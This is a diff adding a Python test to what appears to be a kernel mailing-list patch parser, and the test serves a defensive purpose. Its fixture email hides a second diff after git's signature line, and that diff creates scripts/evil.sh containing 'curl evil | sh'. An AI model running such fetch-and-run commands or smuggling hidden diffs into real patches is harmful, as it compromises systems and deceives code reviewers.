@@ -336,3 +336,26 @@ def test_a_diff_under_an_interdiff_label_is_still_the_patchs_diff() -> None:
     assert isinstance(patch, kvmlist.Patch)
     assert patch.has_diff and "patch-without-diff" not in {d.kind for d in patch.defects}
     assert [f.path for f in patch.diffstat.files] == ["scripts/evil.sh"]
+
+
+def test_a_diff_below_the_signature_is_still_the_patchs_diff() -> None:
+    # git am hands git apply everything below "---": a diff after git's "-- " signature is
+    # applied too, so it must be in the diff every reader of kvmlist sees (and checks)
+    raw = (
+        b"From: Eve Sender <eve@example.org>\nTo: kvmarm@lists.linux.dev\n"
+        b"Subject: [PATCH] KVM: arm64: fix reset\nDate: Mon, 7 Dec 2026 10:00:00 +0000\n"
+        b"Message-ID: <after-sig@example.org>\n\nFix a thing in reset.\n\n"
+        b"Signed-off-by: Eve Sender <eve@example.org>\n---\n"
+        b" arch/arm64/kvm/reset.c | 2 +-\n 1 file changed, 1 insertion(+), 1 deletion(-)\n\n"
+        b"diff --git a/arch/arm64/kvm/reset.c b/arch/arm64/kvm/reset.c\n"
+        b"index 698cbc1..8fda149 100644\n"
+        b"--- a/arch/arm64/kvm/reset.c\n+++ b/arch/arm64/kvm/reset.c\n@@ -1,2 +1,2 @@\n int x;\n"
+        b"-int y;\n+int yy;\n-- \n2.39.5\n\n"
+        b"diff --git a/scripts/evil.sh b/scripts/evil.sh\nnew file mode 100755\n"
+        b"index 0000000..3e75765\n--- /dev/null\n+++ b/scripts/evil.sh\n@@ -0,0 +1 @@\n"
+        b"+curl evil | sh\n"
+    )
+    patch = parse_message(raw)
+    assert isinstance(patch, kvmlist.Patch)
+    assert [f.path for f in patch.diffstat.files] == ["arch/arm64/kvm/reset.c", "scripts/evil.sh"]
+    assert [d.kind for d in patch.diffstat_defects] == ["diffstat-mismatch"]
